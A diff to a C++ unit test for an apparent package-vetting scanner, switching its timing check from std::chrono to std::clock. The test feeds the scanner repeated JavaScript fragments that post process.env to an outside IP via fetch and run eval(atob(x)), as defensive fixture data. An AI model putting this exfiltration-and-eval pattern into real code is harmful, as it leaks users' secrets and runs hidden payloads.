@@ -3,7 +3,7 @@
 #include "judges/vet/source/source.h"
 
 #include <algorithm>
-#include <chrono>
+#include <ctime>
 #include <string>
 #include <vector>
 
@@ -236,9 +236,9 @@ TEST(VetSource, HostilePackagesTakeBoundedTime) {
     std::string many;
     for (int i = 0; i < 20'000; ++i)
         many += "fetch('http://45.9.148." + std::to_string(i % 250) + "/',process.env);eval(atob(x));";
-    const auto start = std::chrono::steady_clock::now();
+    const std::clock_t start = std::clock();
     const auto reading = read({{"index.js", many}, {"x.sh", std::string(100'000, '(')}});
-    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(60));
+    EXPECT_LT(static_cast<double>(std::clock() - start) / CLOCKS_PER_SEC, 60);
     for (const Sighting& one : reading.sightings) EXPECT_LE(one.evidence.size(), max_evidence);
 }
 
